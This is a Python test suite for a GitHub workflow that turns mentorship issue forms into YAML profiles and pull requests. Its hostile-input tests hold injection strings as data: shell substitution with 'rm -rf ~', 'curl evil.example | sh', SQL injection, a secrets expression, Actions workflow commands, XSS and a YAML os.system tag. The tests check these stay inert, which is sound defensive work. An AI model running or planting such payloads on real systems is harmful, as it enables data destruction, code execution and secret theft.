"""Joining without YAML: issue forms, and the workflow's Python entry point driven with real
event payloads (valid, invalid, hostile), asserting the YAML written and the comment posted."""

from __future__ import annotations

import json
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml
from mentorship.issue_forms.templates import FILES, LABELS, NO_EMAIL, render_forms
from mentorship.profiles import load_profiles, load_taxonomy

from tests.fake_github import FakeGitHub

REPO = Path(__file__).resolve().parents[1]
MENTORSHIP = Path(sys.executable).with_name("mentorship")
ANSWERS = {
    "slug": "_No response_",
    "name": "Ana Lima",
    "pronouns": "she/her",
    "graduation_year": "2012",
    "program": "BSc Computer Science",
    "title": "Data Engineer",
    "employer": "Example Ltd",
    "industry": "Finance",
    "topics": "Networking, Interview practice",
    "languages": "English, Portuguese",
    "location": "Lisbon, Portugal",
    "timezone": "Europe/Lisbon",
    "meeting_formats": "- [X] video\n- [ ] phone\n- [X] in person",
    "availability": "tuesday 18:00-20:00\nSaturday 9:00 - 11:00",
    "capacity": "2",
    "accepting": "Yes",
    "links": "LinkedIn https://www.linkedin.com/in/ana-lima",
    "bio": "I build data pipelines.\n\nAsk me about *interviews*.",
    "privacy": f"- [X] {NO_EMAIL}",
}


def body(**changes: str) -> str:
    """An issue body exactly as GitHub writes a submitted form."""
    answers = {**ANSWERS, **changes}
    return "\n\n".join(f"### {LABELS[k]}\n\n{v}" for k, v in answers.items())


def event(
    text: str,
    *,
    login: str = "ana-gh",
    number: int = 7,
    label: str = "mentor-profile",
    action: str = "opened",
) -> dict[str, Any]:
    """An `issues` event payload with the fields GitHub sends that the job reads."""
    return {
        "action": action,
        "issue": {
            "number": number,
            "title": "Become a mentor",
            "body": text,
            "user": {"login": login, "id": 1234, "type": "User"},
            "labels": [{"name": label}],
            "created_at": "2026-11-30T02:00:00Z",
        },
        "repository": {"full_name": "alumni/mentoring", "default_branch": "main"},
        "sender": {"login": login},
    }


@pytest.fixture
def project(tmp_path: Path) -> Path:
    (tmp_path / "pyproject.toml").write_text(
        '[tool.mentorship]\n[tool.mentorship.roster]\ncontact_form_url = "https://forms.gle/contact"\n',
        encoding="utf-8",
    )
    (tmp_path / "mentors" / "photos").mkdir(parents=True)
    shutil.copy(REPO / "mentors" / "taxonomy.yml", tmp_path / "mentors" / "taxonomy.yml")
    return tmp_path


def prepare(project: Path, payload: dict[str, Any]) -> tuple[dict[str, Any], str]:
    """Run the workflow's first step as it runs there; returns the plan and the log."""
    (project / "event.json").write_text(json.dumps(payload), encoding="utf-8")
    result = subprocess.run(
        [str(MENTORSHIP), "issue-form", "prepare", "--event", "event.json", "--plan", "plan.json"],
        cwd=project,
        capture_output=True,
        text=True,
        timeout=60,
        env={"PATH": "/usr/bin:/bin", "GITHUB_OUTPUT": str(project / "out")},
    )
    assert result.returncode == 0, result.stderr
    return json.loads((project / "plan.json").read_text()), result.stdout + result.stderr


# --- The forms ------------------------------------------------------------------------------


def test_committed_issue_forms_match_the_taxonomy() -> None:
    """Fails when mentors/taxonomy.yml changed and `mentorship issue-form templates` was not run."""
    forms = render_forms(load_taxonomy(REPO / "mentors" / "taxonomy.yml"))
    for name, text in forms.items():
        committed = (REPO / ".github" / "ISSUE_TEMPLATE" / name).read_text(encoding="utf-8")
        assert committed == text, f"run `mentorship issue-form templates` and commit {name}"


def test_form_dropdowns_offer_exactly_the_taxonomy_and_warn_about_email() -> None:
    taxonomy = load_taxonomy(REPO / "mentors" / "taxonomy.yml")
    form = yaml.safe_load(render_forms(taxonomy)[FILES["new"]])
    fields = {f.get("id"): f for f in form["body"]}
    assert fields["industry"]["attributes"]["options"] == taxonomy.industries
    assert fields["topics"]["attributes"]["options"] == taxonomy.topics
    assert fields["topics"]["attributes"]["multiple"] is True
    assert fields["languages"]["attributes"]["options"] == taxonomy.languages
    assert (
        "email" not in fields
        and "Do not write your email" in form["body"][0]["attributes"]["value"]
    )
    assert fields["privacy"]["attributes"]["options"][0]["required"] is True


# --- prepare: the profile written ------------------------------------------------------------


def test_a_valid_form_writes_a_valid_profile_with_the_authors_login(project: Path) -> None:
    plan, log = prepare(project, event(body()))
    assert plan["action"] == "propose", plan["problems"]
    written = project / "mentors" / "ana-lima.yml"
    assert plan["path"] == "mentors/ana-lima.yml" and written.read_text() == plan["text"]
    data = yaml.safe_load(written.read_text())
    assert data["name"] == "Ana Lima" and data["github"] == "ana-gh"
    assert data["topics"] == ["Networking", "Interview practice"]
    assert data["meeting_formats"] == ["video", "in person"]
    assert data["availability"][1] == {"day": "saturday", "start": "9:00", "end": "11:00"}
    assert data["accepting"] is True and data["capacity"] == 2
    assert data["bio"] == "I build data pipelines.\n\nAsk me about *interviews*."
    assert "email" not in data
    assert written.read_text().startswith("# yaml-language-server: $schema=schema.json\n")
    assert load_profiles(project / "mentors").problems == []
    assert (project / "out").read_text() == "action=propose\n"
    assert log.strip() == "issue #7: propose"


def test_an_invalid_form_gets_the_problems_in_words_and_no_line_numbers(project: Path) -> None:
    # The body is free text once the issue is edited: a dropdown can hold anything.
    text = body(industry="Fintech", timezone="Lisbon", availability="tuesdays after work")
    plan, log = prepare(project, event(text))
    assert plan["action"] == "comment"
    assert plan["problems"] == [
        "Weekly availability, line 1: write a day and two 24-hour times, like tuesday 18:00-20:00"
    ]
    text = body(industry="Fintech", timezone="Lisbon")
    plan, _ = prepare(project, event(text))
    assert plan["problems"] == [
        "industry: 'Fintech' is not a known industry; did you mean 'Finance'? (see mentors/taxonomy.yml)",
        "timezone: 'Lisbon' is not an IANA timezone (written like 'Europe/Lisbon'); did you mean 'Europe/Lisbon'?",
    ]
    assert plan["comment"].startswith("@ana-gh Thank you! Your profile needs a few changes")
    assert "```text\n- industry: 'Fintech'" in plan["comment"]
    assert "Fintech" not in log


def test_an_email_anywhere_is_refused_without_repeating_it(project: Path) -> None:
    plan, log = prepare(project, event(body(bio="Write to me: ana.lima@example.org")))
    assert plan["action"] == "comment"
    assert plan["problems"][0].startswith("About you: this looks like an email address")
    assert "ana.lima@example.org" not in plan["comment"] + log
    assert not (project / "mentors" / "ana-lima.yml").exists()


def test_the_privacy_box_must_be_ticked(project: Path) -> None:
    plan, _ = prepare(project, event(body(privacy=f"- [ ] {NO_EMAIL}")))
    assert plan["problems"] == ["Privacy: tick the box to confirm no email is in the issue"]


HOSTILE = {
    "name": "Eve <script>alert(1)</script> $(rm -rf ~) `id` ; curl evil.example | sh",
    "title": "'; DROP TABLE mentors; --",
    "employer": "${{ secrets.GOOGLE_CREDENTIALS }}",
    "location": "::add-mask::x",
    "bio": "ok\n::warning title=pwned::fake\n##[error]legacy\n```\n@everyone ![x](https://evil.example/t.png)\n"
    "key: value\n---\n!!python/object:os.system ['id']",
}


def test_hostile_text_is_stored_as_text_and_never_reaches_the_log(project: Path) -> None:
    plan, log = prepare(project, event(body(slug="eve-hostile", **HOSTILE)))
    assert plan["action"] == "propose", plan["problems"]
    data = yaml.safe_load((project / "mentors" / "eve-hostile.yml").read_text())
    assert data["name"] == " ".join(HOSTILE["name"].split())
    assert data["employer"] == HOSTILE["employer"] and data["location"] == "::add-mask::x"
    assert data["bio"] == HOSTILE["bio"].strip()
    assert log.strip() == "issue #7: propose"


def test_hostile_text_in_problems_cannot_break_out_of_the_comments_code_block(
    project: Path,
) -> None:
    text = body(slug="eve", industry="```\n@everyone <img src=x onerror=alert(1)>\n::warning::x")
    plan, log = prepare(project, event(text))
    assert plan["action"] == "comment"
    inside = plan["comment"].split("```text\n", 1)[1]
    assert inside.count("```") == 1 and inside.endswith("```")
    assert all("\n" not in p and "::warning" not in p.split(":", 1)[0] for p in plan["problems"])
    assert "onerror" not in log and "@everyone" not in log


def test_a_100_kb_field_is_refused_by_length_not_processed(project: Path) -> None:
    plan, _ = prepare(project, event(body(bio="x" * 100_000, title="y" * 100_000)))
    assert plan["action"] == "comment"
    assert (
        "About you: the answer is 100,000 characters long; at most 10,000 are read"
        in (plan["comment"])
    )
    assert "x" * 200 not in plan["comment"]


def test_issues_without_the_label_or_from_bots_are_skipped(project: Path) -> None:
    assert prepare(project, event(body(), label="bug"))[0]["action"] == "skip"
    payload = event(body())
    payload["issue"]["user"]["type"] = "Bot"
    assert prepare(project, payload)[0]["action"] == "skip"
    assert prepare(project, event(body(), action="closed"))[0]["action"] == "skip"


# --- Who may update --------------------------------------------------------------------------


def test_only_the_recorded_login_can_update_a_profile(project: Path) -> None:
    assert prepare(project, event(body()))[0]["action"] == "propose"
    update = "\n\n".join(
        [
            f"### {LABELS['slug']}\n\nana-lima",
            f"### {LABELS['title']}\n\nLead Data Engineer",
            f"### {LABELS['privacy']}\n\n- [X] {NO_EMAIL}",
        ]
    )
    plan, _ = prepare(project, event(update, login="mallory", label="mentor-profile-update"))
    assert plan["action"] == "comment"
    assert plan["comment"].startswith(
        "@mallory Only the GitHub account recorded in mentors/ana-lima.yml"
    )
    assert (
        yaml.safe_load((project / "mentors" / "ana-lima.yml").read_text())["title"]
        == "Data Engineer"
    )
    plan, _ = prepare(project, event(update, login="Ana-GH", label="mentor-profile-update"))
    assert plan["action"] == "propose", plan["problems"]
    data = yaml.safe_load((project / "mentors" / "ana-lima.yml").read_text())
    assert (data["title"], data["employer"], data["github"]) == (
        "Lead Data Engineer",
        "Example Ltd",
        "ana-gh",
    )


def test_a_new_profile_cannot_take_someone_elses_address(project: Path) -> None:
    prepare(project, event(body()))
    plan, _ = prepare(project, event(body(), login="mallory", number=8))
    assert plan["problems"] == [
        "Your page's address (slug): ana-lima is taken by another mentor; choose another "
        "address, like your name with your graduation year"
    ]


# --- publish: the pull request, its status and the comment -----------------------------------


def publish(project: Path, fake: FakeGitHub, build: str = "success") -> str:
    env = {
        "PATH": "/usr/bin:/bin",
        "GITHUB_TOKEN": "ghs_test",
        "GITHUB_REPOSITORY": fake.repo,
        "GITHUB_API_URL": fake.url,
        "GITHUB_SERVER_URL": "https://github.com",
        "GITHUB_RUN_ID": "42",
        "SITE_BUILD": build,
    }
    result = subprocess.run(
        [str(MENTORSHIP), "issue-form", "publish", "--plan", "plan.json"],
        cwd=project,
        capture_output=True,
        text=True,
        timeout=60,
        env=env,
    )
    assert result.returncode == 0, result.stderr
    return result.stdout


def test_a_valid_profile_becomes_a_pull_request_with_a_status_and_a_comment(
    project: Path,
) -> None:
    plan, _ = prepare(project, event(body()))
    with FakeGitHub("alumni/mentoring") as fake:
        assert publish(project, fake).strip() == "proposed: pull request #100"
        assert fake.files[("profile/issue-7", "mentors/ana-lima.yml")] == plan["text"]
        [pull] = fake.pulls
        assert (pull["head"], pull["base"]) == ("profile/issue-7", "main")
        assert pull["title"] == "Add mentor profile: ana-lima"
        assert "Closes #7" in pull["body"] and "https://forms.gle/contact" in pull["body"]
        assert "does not go here" in pull["body"]
        [status] = fake.statuses
        assert (status["sha"], status["state"], status["context"]) == (
            fake.refs["profile/issue-7"],
            "success",
            "mentor profile",
        )
        [(issue, comment)] = fake.comments
        assert issue == 7
        assert "https://github.com/alumni/mentoring/pull/100" in comment
        assert "https://github.com/alumni/mentoring/actions/runs/42#artifacts" in comment
        assert fake.tokens == {"Bearer ghs_test"}
        # Edited again: the same branch and pull request, a new commit and status.
        publish(project, fake)
        assert len(fake.pulls) == 1 and len(fake.statuses) == 2


def test_a_failed_site_build_marks_the_status_failed(project: Path) -> None:
    prepare(project, event(body()))
    with FakeGitHub("alumni/mentoring") as fake:
        publish(project, fake, build="failure")
        assert fake.statuses[0]["state"] == "failure"


def test_problems_are_commented_and_nothing_is_pushed(project: Path) -> None:
    prepare(project, event(body(industry="Fintech")))
    with FakeGitHub("alumni/mentoring") as fake:
        assert publish(project, fake).strip() == "commented"
        assert fake.pulls == [] and set(fake.refs) == {"main"}
        assert "did you mean 'Finance'?" in fake.comments[0][1]


def test_more_than_three_profile_issues_a_day_are_refused(project: Path) -> None:
    prepare(project, event(body()))
    with FakeGitHub("alumni/mentoring") as fake:
        fake.issues = [
            {
                "number": n,
                "user": {"login": "ana-gh"},
                "labels": [{"name": "mentor-profile"}],
                "created_at": "2999-01-01T00:00:00Z",
            }
            for n in range(4)
        ]
        assert publish(project, fake).strip() == "rate-limited"
        assert fake.pulls == []
        assert "at most 3 are handled a day" in fake.comments[0][1]
